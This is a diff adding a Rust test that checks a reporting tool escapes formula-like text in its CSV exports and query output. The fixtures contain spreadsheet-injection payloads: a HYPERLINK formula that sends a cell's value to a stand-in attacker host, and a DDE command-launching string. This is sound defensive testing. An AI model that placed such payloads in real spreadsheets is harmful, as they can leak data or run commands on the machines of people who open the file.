@@ -185,6 +185,66 @@ fn a_tenants_workbook_holds_no_other_tenants_ids_or_names() {
     assert!(seen_own, "the tenant's own rows are there");
 }
 
+#[test]
+fn text_that_looks_like_a_formula_is_inert_in_every_csv_of_a_bundle_and_of_query() {
+    let dir = TempDir::new().unwrap();
+    let data = dir.path().join("data");
+    std::fs::create_dir_all(&data).unwrap();
+    std::fs::write(data.join("tenants.csv"), "tenant_id,tenant_name\na,Alpha\n").unwrap();
+    std::fs::write(
+        data.join("devices.csv"),
+        "snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc\n\
+         2026-10-31,a,d1,\"=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"click\"\")\",workstation,2026-10-31T01:00:00Z\n\
+         2026-10-31,a,d2,@SUM(1+1),workstation,2026-10-31T01:00:00Z\n",
+    )
+    .unwrap();
+    std::fs::write(
+        data.join("changes.csv"),
+        "change_id,tenant_id,title,change_type,risk,created_utc,actual_end_utc,outcome\n\
+         c1,a,+cmd|' /C calc'!A0,normal,low,2026-10-01T00:00:00Z,2026-10-02T00:00:00Z,successful\n",
+    )
+    .unwrap();
+    let lake = Lake::open(&dir.path().join("lake")).unwrap();
+    ingest::ingest(&Config::default(), &lake, &[data]).unwrap();
+    kpi::compute(&Config::default(), &lake, Period::month(2026, 10).unwrap()).unwrap();
+    let session = reports::session(&lake, None).unwrap();
+    let bundle = reports::bundle::write(&session, "2026-10-01", "portfolio", dir.path()).unwrap();
+
+    let mut cells = Vec::new();
+    for entry in std::fs::read_dir(bundle.join("controls")).unwrap() {
+        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        for record in reader.records() {
+            cells.extend(record.unwrap().iter().map(String::from));
+        }
+    }
+    for expected in [
+        "'=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"click\")",
+        "'@SUM(1+1)",
+        "'+cmd|' /C calc'!A0",
+    ] {
+        assert!(cells.iter().any(|c| c == expected), "{expected} not in {cells:?}");
+    }
+    let live: Vec<&String> = cells
+        .iter()
+        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
+        .collect();
+    assert!(live.is_empty(), "cells a spreadsheet would run: {live:?}");
+
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_govpack"))
+        .args(["--lake", "lake", "query", "--format", "csv"])
+        .arg("select hostname, -1 as delta, -0.5 as share from devices where device_id = 'd1'")
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "hostname,delta,share\n\"'=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"click\"\")\",-1,-0.5\n",
+        "numbers stay numbers; {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
 fn all_text_of_bundle(dir: &Path) -> Vec<(String, String)> {
     let mut out = Vec::new();
     let mut stack = vec![dir.to_path_buf()];
